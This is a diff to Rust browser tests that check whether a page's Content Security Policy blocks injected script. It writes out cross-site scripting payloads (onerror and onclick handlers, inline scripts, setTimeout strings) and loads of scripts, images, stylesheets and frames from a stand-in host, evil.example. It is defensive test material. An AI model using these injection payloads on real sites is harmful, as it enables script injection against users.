@@ -62,7 +62,7 @@ fn hostile() -> Forged {
     );
     say(&mut forged, 11, &json!({"kind": "posture", "hellos": [{MARKUP: SCRIPT}], "at": at}));
     say(&mut forged, 12, &json!({"kind": "halted", "failure": null, "at": 7}));
-    say(&mut forged, 13, &json!({"kind": "order", (SCRIPT): all, "principal": all}));
+    say(&mut forged, 11, &json!({"kind": "posture", (SCRIPT): all, "principal": all}));
     forged
 }
 
@@ -120,17 +120,29 @@ fn hostile_texts_are_texts_and_nothing_of_them_runs() {
 #[test]
 fn the_policy_stops_a_script_that_gets_in_all_the_same() {
     let (browser, review) = (Browser::shared(), Review::of(&Forged::of(3)));
-    let inject = "(() => { const i = document.createElement('img'); i.setAttribute('onerror', 'alert(5)'); i.setAttribute('src', 'x:y'); document.body.append(i);
-        const s = document.createElement('script'); try { s.textContent = 'alert(6)'; document.body.append(s); } catch {}
-        try { const r = document.createElement('script'); r.src = 'https://evil.example/x.js'; document.body.append(r); } catch {}
-        try { document.body.insertAdjacentHTML('beforeend', '<b onclick=alert(7)>x</b>'); } catch { return 'refused'; } return 'taken'; })()";
+    // Each way in, by itself: what the browser makes of it.
+    let ways = "(() => { const put = (node) => document.body.append(node), make = (name) => document.createElement(name); return [
+        () => { const i = make('img'); i.setAttribute('onerror', 'alert(5)'); i.src = 'x:y'; put(i); },
+        () => { const s = make('script'); s.textContent = 'alert(6)'; put(s); },
+        () => { const s = make('script'); s.src = 'https://evil.example/x.js'; put(s); },
+        () => document.body.insertAdjacentHTML('beforeend', '<b onclick=alert(7)>x</b>'),
+        () => { document.body.innerHTML = '<iframe srcdoc=x></iframe>'; },
+        () => setTimeout('alert(8)'),
+        () => { const i = make('img'); i.src = 'https://evil.example/x.png'; put(i); return 'policy'; },
+        () => { const l = make('link'); l.rel = 'stylesheet'; l.href = 'https://evil.example/x.css'; put(l); return 'policy'; },
+        () => { const f = make('iframe'); f.src = 'https://evil.example/'; put(f); return 'policy'; },
+    ].map((way) => { try { return way() ?? 'taken'; } catch { return 'refused'; } }).join(' '); })()";
     for page in ["index.html", "alone.html"] {
-        let steps = [json!(["goto", review.address(page)]), json!(["evaluate", inject]), json!(["pause", 300])];
+        let steps = [json!(["goto", review.address(page)]), json!(["evaluate", ways]), json!(["pause", 300])];
         let visit = browser.visit(json!({}), &steps);
-        assert_eq!(visit.answers[1], json!("refused"), "{page}: {visit:?}");
+        assert_eq!(
+            visit.answers[1],
+            json!("refused refused refused refused refused refused policy policy policy"),
+            "{page}"
+        );
         assert!(visit.ran.is_empty(), "{page}: {:?}", visit.ran);
-        assert!(!visit.complaints.is_empty(), "{page}: the browser says that it forbade something");
-        assert!(!visit.requests.iter().any(|address| address.contains("evil")), "{page}: {:?}", visit.requests);
+        let forbidden = visit.complaints.iter().filter(|text| text.contains("Content Security Policy")).count();
+        assert!(forbidden >= 3, "{page}: {:?}", visit.complaints);
     }
 }
 
